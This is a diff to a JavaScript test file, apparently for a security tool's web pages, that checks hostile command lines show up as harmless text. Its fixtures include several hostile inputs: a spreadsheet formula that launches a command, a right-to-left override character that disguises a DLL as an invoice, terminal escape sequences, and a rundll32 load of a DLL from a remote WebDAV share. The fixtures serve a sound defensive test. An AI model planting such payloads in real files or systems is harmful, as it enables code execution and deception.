@@ -16,7 +16,8 @@ const HOSTILE = {
   escapes: `rundll32.exe ${ESCAPE}[31mred${ESCAPE}[0m${ESCAPE}]0;owned\u0007 \u0000 \r\n second line`,
   override: `rundll32.exe C:\\Users\\Public\\invoice${OVERRIDE}fdp.dll,Start`,
   formula: `=cmd|'/C calc'!A0`,
-  long: `rundll32.exe C:\\long.dll,${'A'.repeat(8000)}END`,
+  long: `rundll32.exe C:\\long.dll,${'A'.repeat(32_000)}END`,
+  many: `rundll32.exe C:\\many.dll,Run${' x'.repeat(10_000)}`,
   address: `rundll32.exe \\\\${IP}@SSL\\DavWWWRoot\\x.dll,Run`,
   guid: `rundll32.exe shell32.dll,SHCreateLocalServerRunDll {${GUID}}`,
 }
@@ -111,7 +112,7 @@ test('hostile command lines are shown as text on every page, and nothing of them
     await expect(panel.getByRole('heading', { name: 'Judgement' })).toBeVisible()
     shown.push((await panel.locator('code').first().innerText()).replaceAll(/\s/g, ''))
     await panel.getByText('Original record').click()
-    const raw = await panel.locator('pre').first().innerText()
+    const raw = await panel.getByRole('region', { name: 'Original record' }).innerText()
     expect(raw).toContain(host)
     expect(raw).not.toContain(OVERRIDE)
     expect(raw).not.toContain(ESCAPE)
